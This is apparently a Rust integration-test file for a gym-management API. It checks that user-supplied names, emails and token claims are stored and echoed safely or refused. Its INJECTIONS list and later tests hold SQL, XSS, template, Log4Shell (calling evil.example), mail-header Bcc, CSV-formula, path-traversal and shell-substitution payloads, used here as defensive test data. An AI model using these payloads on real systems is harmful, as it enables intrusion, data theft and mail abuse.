//! Texts that mean something to somebody on the way: to SQL, HTML, a template, a mail header, a
//! spreadsheet, a shell, a log. They arrive as they are, or are refused with the place where they
//! stand.

use mail_parser::{HeaderValue, MessageParser};
use serde_json::{Value, json};
use shared::domain::{AthleteCode, Email};
use std::collections::HashMap;
use tests::{
    Gym, Person, Response,
    routes::{Field, ROUTES},
    story,
};

/// What attackers write where a name is asked for. Each is on one line, and so is a name.
const INJECTIONS: [&str; 36] = [
    "Robert'); DROP TABLE athlete;--",
    "' OR '1'='1",
    r"\'; SELECT pg_sleep(9);--",
    "$1 $$ $5::text :name ? %s %n {0}",
    "NULL",
    "<script>alert(1)</script>",
    r#""><img src=x onerror="alert(1)">"#,
    "'-alert(1)-' onmouseover='alert(1)",
    "</title></style></td></table><h1>",
    "<!-- --> <![CDATA[ ]]> <?php ?>",
    "&lt;b&gt; &amp; &#60; &nbsp;",
    "javascript:alert(1)",
    "{{ 7*7 }} {% include \"/etc/passwd\" %} {# #}",
    "{{ letter.athlete_code }}",
    "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
    "%0d%0aBcc: eve@evil.example",
    r"\r\nBcc: eve@evil.example",
    "=?utf-8?Q?=0D=0ABcc:_eve=40evil.example?=",
    "=?utf-8?B?4oCubGl2ZQ==?= =?utf-8?B?AAA=?=",
    "=?iso-8859-1?q?a?= b =?",
    "Eve <eve@evil.example>, Bcc: x; y",
    "\"Eve\" (a comment) <eve@evil.example>",
    "Bcc: eve@evil.example",
    "--boundary-- . From eve",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3;@SUM(1,1)",
    "a,b;\"c\",\"\"d\"\"",
    r#"","athlete_code":"7ZQ4M-K2T9S"#,
    r#"{"$ne": null}"#,
    "null\\u0000\\ud800",
    "../../../etc/passwd",
    r"..\..\C:\CON",
    "`id` $(id) | id && id > x",
    r#"{"level": "ERROR", "message": "forged"}"#,
    "-e --help -rf /",
];

/// What people are called.
const NAMES: [&str; 13] = [
    "Zoë Ångström-O’Connor",
    "محمد بن علي",
    "דוד בן־גוריון",
    "李小龍 道場",
    "अनिरुद्ध शर्मा",
    "สมชาย ใจดี",
    "Иван Ильич",
    "さくら ジム",
    "한국 체육관",
    "👩🏽‍🚀 👨‍👩‍👧‍👦 🏳️‍🌈",
    "I\u{301}n\u{303}e\u{308} Z\u{351}\u{36b}\u{343}algo",
    "İstanbul ısı ŞİŞLİ",
    "نیم\u{200c}فاصله",
];

/// What no name may have in it, for it ends a line, steers a device or passes for something else.
fn forbidden() -> Vec<char> {
    let control = ('\0'..='\u{1f}').chain('\u{7f}'..='\u{9f}');
    let breaks = '\u{2028}'..='\u{2029}';
    let reordering = ('\u{202a}'..='\u{202e}').chain('\u{2066}'..='\u{2069}');
    control.chain(breaks).chain(reordering).collect()
}

fn names() -> impl Iterator<Item = &'static str> {
    INJECTIONS.into_iter().chain(NAMES)
}

/// A table with one athlete, as a spreadsheet writes it.
fn table(email: &str, full_name: &str) -> String {
    let quoted = full_name.replace('"', "\"\"");
    format!("email,full_name\r\n{email},\"{quoted}\"\r\n")
}

fn upload(owner: &Person, path: &str, table: &str) -> Value {
    let mut event = owner.event("POST", path, Some(table));
    event["headers"]["content-type"] = json!("text/csv");
    event
}

#[test]
fn every_name_arrives_as_it_was_written() {
    story(async |app| {
        for (n, name) in names().enumerate() {
            let owner = app.person(&format!("owner-{n}@names.example"));
            let gym = owner.opens_gym(name).await;
            let athletes = format!("/businesses/{gym}/athletes");
            let of = |email: String| json!({"email": email, "full_name": name});
            let athlete = owner
                .registers(gym, &of(format!("{n}@names.example")))
                .await;
            let list = json!({"athletes": [of(format!("json-{n}@names.example"))]});
            owner
                .post(&format!("{athletes}/import"), &list)
                .await
                .expect(200);
            let table = table(&format!("csv-{n}@names.example"), name);
            app.call(&upload(&owner, &format!("{athletes}/import"), &table))
                .await
                .expect(200);
            let workout = owner.writes_workout(name).await;
            let assignments = format!("/workouts/{workout}/assignments");
            let assignment = json!({"business_id": gym, "athlete_ids": [athlete["id"]]});
            owner.post(&assignments, &assignment).await.expect(200);
            let claims = json!({"email": format!("{n}@names.example"), "email_verified": "true", "name": name});
            let linked = app.person_with(&claims);
            let response = linked.links(None).await.expect(200);

            let roster = owner.get(&athletes).await.expect(200);
            for (place, said) in [
                ("the athlete", &athlete["full_name"]),
                ("the roster, from CSV", &roster["items"][0]["full_name"]),
                ("the roster, from JSON", &roster["items"][1]["full_name"]),
                ("the roster", &roster["items"][2]["full_name"]),
                (
                    "the gyms",
                    &owner.get("/businesses").await.expect(200)["items"][0]["name"],
                ),
                (
                    "the workouts",
                    &owner.get("/workouts").await.expect(200)["items"][0]["name"],
                ),
                (
                    "the followers",
                    &owner.get(&assignments).await.expect(200)["items"][0]["full_name"],
                ),
                ("the link", &response["linked"][0]["business"]["name"]),
                ("the account", &response["user"]["full_name"]),
                (
                    "my account",
                    &linked.get("/me").await.expect(200)["user"]["full_name"],
                ),
                (
                    "my gym",
                    &linked.get("/me").await.expect(200)["athletes"][0]["business"]["name"],
                ),
                (
                    "my workout",
                    &linked.get("/me/workouts").await.expect(200)["items"][0]["name"],
                ),
            ] {
                assert_eq!(said, name, "{place}");
            }
        }
        // Not only given back as they came, but stored so.
        let stored: Vec<String> = app
            .ask("SELECT array_agg(name ORDER BY created_at, id) FROM business")
            .await;
        assert!(stored.iter().map(String::as_str).eq(names()), "{stored:#?}");
        for count in [
            "SELECT count(*) FROM business JOIN workout USING (name)",
            r#"SELECT count(DISTINCT full_name) FROM athlete JOIN "user" USING (full_name)"#,
            "SELECT count(*) / 3 FROM business JOIN athlete ON athlete.full_name = business.name",
        ] {
            assert_eq!(
                app.ask::<i64>(count).await,
                i64::try_from(names().count()).expect("few"),
                "{count}"
            );
        }
    });
}

/// The isolates around a name that would disturb the sentence are no part of it.
fn without_isolates(text: &str) -> String {
    text.replace(['\u{2068}', '\u{2069}'], "")
}

/// The names of a mail's headers as they stand in it, undecoded.
fn header_lines(source: &str) -> Vec<&str> {
    let (head, _) = source.split_once("\r\n\r\n").expect("a head and a body");
    assert!(
        head.bytes()
            .all(|byte| byte == b'\r' || byte == b'\n' || byte.is_ascii_graphic() || byte == b' '),
        "{head}"
    );
    assert_eq!(head.matches('\n').count(), head.matches("\r\n").count());
    assert_eq!(head.matches('\r').count(), head.matches("\r\n").count());
    let mut names: Vec<_> = head
        .split("\r\n")
        .filter(|line| !line.starts_with(' '))
        .map(|line| line.split_once(':').expect("a header").0)
        .collect();
    names.sort_unstable();
    names
}

#[test]
fn no_name_is_more_than_a_name_in_a_mail() {
    story(async |app| {
        let owner = app.person("owner@mails.example");
        let mut expected = HashMap::new();
        for (n, name) in names().chain(["Plain"]).enumerate() {
            let gym = owner.opens_gym(name).await;
            let email = format!("{n}@mails.example");
            let athlete = owner
                .registers(gym, &json!({"email": email, "full_name": name}))
                .await;
            expected.insert(email, (name, athlete["athlete_code"].clone()));
        }
        let outbox = app.shared.aws.outbox().await;
        let mails: Vec<_> = outbox
            .newest_first()
            .filter(|mail| expected.contains_key(&mail.to))
            .collect();
        assert_eq!(mails.len(), expected.len());
        let plain = mails
            .iter()
            .find(|mail| expected[&mail.to].0 == "Plain")
            .expect("its mail");
        let tags = |html: &str| html.matches(['<', '>', '"']).count();

        for mail in &mails {
            let (name, code) = &expected[&mail.to];
            let source = mail.source.as_deref().expect("its source");
            assert_eq!(
                header_lines(source),
                [
                    "Content-Type",
                    "Date",
                    "From",
                    "MIME-Version",
                    "Message-ID",
                    "Reply-To",
                    "Subject",
                    "To"
                ],
                "{source}"
            );
            for line in [
                "From: \"GymBrah\" <invitations@gymbrah.example>\r\n".to_owned(),
                format!("To: <{}>\r\n", mail.to),
                "Reply-To: <owner@mails.example>\r\n".to_owned(),
            ] {
                assert!(source.contains(&line), "{line} is not in {source}");
            }
            let parsed = MessageParser::new().parse(source).expect("a mail");
            let subject = parsed.header("Subject").and_then(HeaderValue::as_text);
            assert_eq!(
                without_isolates(subject.expect("a subject")),
                format!("{name} invites you to GymBrah"),
                "{source}"
            );

            let text = without_isolates(&mail.text);
            assert!(text.starts_with(&format!("Hi {name},")), "{text}");
            assert!(text.contains(&format!("\n{name} invites you")), "{text}");
            let html = without_isolates(mail.html.as_deref().expect("HTML"));
            let escaped = name
                .replace('&', "&#38;")
                .replace('<', "&#60;")
                .replace('>', "&#62;")
                .replace('"', "&#34;")
                .replace('\'', "&#39;");
            assert!(html.contains(&format!("Hi {escaped}, ")), "{html}");
            assert_eq!(
                tags(&html),
                tags(plain.html.as_deref().expect("HTML")),
                "{html}"
            );
            let code = code.as_str().expect("a code");
            assert!(text.contains(code) && html.contains(code), "{name}");
        }
    });
}

/// Where in the answer a text was refused.
fn places(answer: &Response) -> Vec<String> {
    let errors = answer.body["errors"].as_array();
    let errors = errors.map(Vec::as_slice).unwrap_or_default();
    let place = |error: &Value| {
        let place = [&error["pointer"], &error["column"], &error["parameter"]];
        place
            .iter()
            .find_map(|place| Some(place.as_str()?.to_owned()))
    };
    errors.iter().filter_map(place).collect()
}

#[test]
fn what_ends_a_line_or_passes_for_another_is_in_no_name() {
    story(async |app| {
        let gym = Gym::open(app, "lines").await;
        let import = "/businesses/{business_id}/athletes/import";
        let import = gym.ids.filled_in(import);
        let stored = "SELECT (SELECT count(*) FROM athlete) + (SELECT count(*) FROM workout)";
        let before = app.ask::<i64>(stored).await;
        for c in forbidden() {
            let name = format!("Eve{c}Bcc: eve@evil.example");
            for route in ROUTES {
                for field in route.fields(&gym.ids) {
                    if field.is_description() {
                        continue; // lines are what it is for
                    }
                    let body = route.whole_body(&gym.ids).expect("it has a field");
                    let body = field.changed(&body, json!(name)).to_string();
                    let path = gym.ids.filled_in(route.path());
                    let sender = gym.sender_of(route);
                    let answer = sender.send(route.method(), &path, Some(&body)).await;
                    assert_eq!(
                        (answer.status, places(&answer)),
                        (422, vec![field.fragment()]),
                        "{c:?} at {}",
                        route.key
                    );
                }
            }
            let answer = app
                .call(&upload(
                    &gym.owner,
                    &import,
                    &table("eve@lines.example", &name),
                ))
                .await;
            assert_eq!(
                (answer.status, places(&answer)),
                (422, vec!["full_name".to_owned()]),
                "{c:?} in a cell"
            );

            let claims = json!({"name": name, "email": format!("eve{c}@lines.example"), "email_verified": "true"});
            let user = app.person_with(&claims).links(None).await.expect(200)["user"].clone();
            assert_eq!(
                (&user["full_name"], &user["email"]),
                (&json!(null), &json!(null)),
                "{c:?} in claims"
            );
        }
        assert_eq!(app.ask::<i64>(stored).await, before);
        assert_eq!(
            app.ask::<String>("SELECT string_agg(name, ',') FROM business")
                .await,
            "lines"
        );
    });
}

#[test]
fn what_no_text_can_be_is_no_json() {
    story(async |app| {
        let owner = app.person("owner@surrogates.example");
        for lone in [
            r"\ud800",
            r"\udfff",
            r"\ud800\ud800",
            r"\ud83d x",
            r"\udc00\ud800",
        ] {
            for path in ["/businesses", "/workouts"] {
                let body = format!(r#"{{"name": "{lone}"}}"#);
                let answer = owner.send("POST", path, Some(&body)).await;
                assert_eq!(
                    (answer.status, answer.problem()),
                    (400, "malformed-body"),
                    "{lone}"
                );
            }
        }
        let null = owner
            .send("POST", "/businesses", Some(r#"{"name": "a\u0000b"}"#))
            .await;
        assert_eq!(
            (null.status, places(&null)),
            (422, vec!["#/name".to_owned()])
        );
        let pair = owner
            .send("POST", "/businesses", Some(r#"{"name": "\ud83d\ude00"}"#))
            .await;
        assert_eq!(pair.expect(201)["name"], "😀");
    });
}

#[test]
fn a_name_that_nobody_can_see_is_none() {
    story(async |app| {
        let owner = app.person("owner@nothing.example");
        for unseen in [
            "\u{a0}\u{3000}",
            "\u{ad}",
            "\u{34f}",
            "\u{61c}",
            "\u{115f}\u{1160}",
            "\u{17b4}",
            "\u{180e}",
            "\u{200b}\u{200d}\u{2060}",
            "\u{2064}",
            "\u{2800}",
            "\u{3164}",
            "\u{fe0f}",
            "\u{feff}",
            "\u{ffa0}",
            "\u{e0041}\u{e007f}",
        ] {
            let answer = owner.post("/businesses", &json!({"name": unseen})).await;
            assert_eq!(
                (answer.status, places(&answer)),
                (422, vec!["#/name".to_owned()]),
                "{unseen:?}"
            );
        }
    });
}

#[test]
fn where_no_name_is_asked_for_they_are_refused() {
    story(async |app| {
        let gym = Gym::open(app, "fields").await;
        let stored = "SELECT (SELECT count(*) FROM athlete) + (SELECT count(*) FROM waitlist)";
        let before = app.ask::<i64>(stored).await;

        for text in names() {
            for route in ROUTES {
                let path = gym.ids.filled_in(route.path());
                let sender = gym.sender_of(route);
                let mut fields = route.fields(&gym.ids);
                fields.retain(|field| !field.is_name() && !field.is_description());
                // An address is read with a name before it, and a code out of any text that holds
                // one.
                let is_email = text.parse::<Email>().is_ok();
                let is_code = text.parse::<AthleteCode>().is_ok();
                fields.retain(|field| match field.fragment().rsplit('/').next() {
                    Some("email") => !is_email,
                    Some("athlete_code") => !is_code,
                    _ => true,
                });
                // Each alone, and all of them.
                let mut choices: Vec<_> = fields.chunks(1).collect();
                choices.extend((fields.len() > 1).then_some(&fields[..]));
                for fields in choices {
                    let body = route.whole_body(&gym.ids).expect("it has a field");
                    let hostile = |body, field: &Field| field.changed(&body, json!(text));
                    let body = fields.iter().fold(body, hostile).to_string();
                    let answer = sender.send(route.method(), &path, Some(&body)).await;
                    let mut refused = places(&answer);
                    refused.sort_unstable();
                    let expected = fields.iter().map(Field::fragment).collect();
                    assert_eq!(
                        (answer.status, refused),
                        (422, expected),
                        "{text} at {}",
                        route.key
                    );
                }
                // Whatever is typed may be looked for.
                for parameter in route.query.iter().filter(|name| **name != "q") {
                    let body = Some(gym.ids.filled_in(route.body)).filter(|body| !body.is_empty());
                    let mut event = sender.event(route.method(), &path, body.as_deref());
                    event["queryStringParameters"] = json!({*parameter: text});
                    let answer = app.call(&event).await;
                    assert_eq!(
                        (answer.status, places(&answer)),
                        (422, vec![(*parameter).to_owned()]),
                        "{text} at {}",
                        route.key
                    );
                }
            }
            // A member is named as it was sent, in the escapes of a JSON pointer.
            let answer = gym
                .owner
                .post("/businesses", &json!({"name": "x", text: 1}))
                .await;
            let pointer = format!("#/{}", text.replace('~', "~0").replace('/', "~1"));
            assert_eq!(
                (answer.status, places(&answer)),
                (422, vec![pointer]),
                "{text}"
            );
        }
        assert_eq!(app.ask::<i64>(stored).await, before);
    });
}

#[test]
fn an_address_is_one_whatever_its_owner_has_put_into_it() {
    story(async |app| {
        let owner = app.person("owner@boxes.example");
        let gym = owner.opens_gym("Iron Temple").await;
        for local in [
            "o'or'1'='1",
            "{{7*7}}",
            "${7*7}",
            "%0d%0abcc",
            "`id`|id",
            "a!#$%&'*+/?=^_`{|}~-b",
            "--",
            "=1+1",
        ] {
            let email = format!("{local}@boxes.example");
            let athlete = owner.registers(gym, &json!({"email": email})).await;
            assert_eq!(athlete["email"], email);
            let mail = &app.mails_to(&email).await[0];
            let source = mail.source.as_deref().expect("its source");
            assert_eq!(header_lines(source).len(), 8, "{source}");
            assert!(source.contains(&format!("To: <{email}>\r\n")), "{source}");
            let linked = app.person(&email).links(None).await.expect(200);
            assert_eq!(linked["linked"][0]["athlete_id"], athlete["id"]);
        }
        // It would be decoded on the way, into the address of somebody else.
        for local in ["=?utf-8?q?eve=40evil.example=3e?=", "=?x?b?ZXZl?="] {
            let answer = owner
                .post(
                    &format!("/businesses/{gym}/athletes"),
                    &json!({"email": format!("{local}@boxes.example")}),
                )
                .await;
            assert_eq!(
                (answer.status, places(&answer)),
                (422, vec!["#/email".to_owned()]),
                "{local}"
            );
        }
    });
}

#[test]
fn addresses_are_compared_in_lower_case_and_other_scripts_have_none() {
    story(async |app| {
        let owner = app.person("owner@case.example");
        let gym = owner.opens_gym("Iron Temple").await;
        let athletes = format!("/businesses/{gym}/athletes");
        let ada = owner
            .registers(gym, &json!({"email": "ADA@Kelvin.Example"}))
            .await;
        assert_eq!(ada["email"], "ada@kelvin.example");
        let again = owner
            .post(&athletes, &json!({"email": "aDa@kelvin.exAmple"}))
            .await;
        assert_eq!(again.expect(200)["id"], ada["id"]);

        // A letter that looks like one of ASCII, or nearly, is refused before the @.
        for alike in [
            "\u{ff41}da@kelvin.example",
            "\u{430}da@kelvin.example",
            "\u{212a}ada@kelvin.example",
        ] {
            for path in [&athletes, "/waitlist"] {
                let answer = owner.post(path, &json!({"email": alike})).await;
                assert_eq!(
                    (answer.status, places(&answer)),
                    (422, vec!["#/email".to_owned()]),
                    "{alike}"
                );
            }
            let other = app.person(alike).links(None).await.expect(200);
            assert_eq!(
                (&other["status"], &other["user"]["email"]),
                (&json!("code_required"), &json!(null)),
                "{alike}"
            );
        }
        // In a domain it is what the rules of such domains make of it: another domain, or the same
        // one.
        let other = app
            .person("ada@kelv\u{131}n.example")
            .links(None)
            .await
            .expect(200);
        assert_eq!(other["status"], "code_required");
        assert_eq!(other["user"]["email"], "ada@xn--kelvn-q4a.example");
        let same = json!({"email": "ada@\u{212a}elvin.example\u{200b}"});
        assert_eq!(
            owner.post(&athletes, &same).await.expect(200)["id"],
            ada["id"]
        );
        // Nothing is taken off the address of a token.
        let other = app
            .person("ada@kelvin.example\u{200b}")
            .links(None)
            .await
            .expect(200);
        assert_eq!(other["user"]["email"], json!(null));
        let linked = app
            .person("Ada@KELVIN.example")
            .links(None)
            .await
            .expect(200);
        assert_eq!(linked["linked"][0]["athlete_id"], ada["id"]);
    });
}

#[test]
fn a_token_may_claim_what_it_likes() {
    story(async |app| {
        let long = "x".repeat(10_000);
        for (claim, field, values) in [
            (
                "name",
                "full_name",
                vec!["", " ", "a\u{0}b", "a\nb", "g\u{202e}nol", &long],
            ),
            (
                "picture",
                "avatar_url",
                vec![
                    "",
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "http://a.example/p.png",
                    "//a.example/p.png",
                    " https://a.example/p.png",
                    "https://a.example/\r\nSet-Cookie: a=b",
                    "https://a.example/\u{0}",
                    &long,
                ],
            ),
            (
                "email",
                "email",
                vec![
                    "",
                    "nobody",
                    "a@claims.example\r\nBcc: eve@evil.example",
                    "Ada <a@claims.example>",
                    "a@claims.example,b@claims.example",
                    "a@claims.example\u{0}",
                    &long,
                ],
            ),
        ] {
            for value in values {
                let person = app.person_with(&json!({claim: value, "email_verified": "true"}));
                let linked = person.links(None).await.expect(200);
                let me = person.get("/me").await.expect(200);
                for user in [&linked["user"], &me["user"]] {
                    assert_eq!(user[field], json!(null), "{claim} {value:.40}");
                }
                person.opens_gym("Iron Temple").await;
            }
        }
        for sub in ["x", "' OR true--", "auth0|\u{661}", &long[..255]] {
            let me = app.person_with(&json!({"sub": sub})).get("/me").await;
            assert_eq!(me.expect(200)["businesses"], json!([]), "{sub:.40}");
        }
        for sub in ["", "a\u{0}b", &long] {
            let response = app.person_with(&json!({"sub": sub})).get("/me").await;
            assert_eq!(
                (response.status, response.problem()),
                (401, "unauthenticated"),
                "{sub:.40}"
            );
        }
    });
}
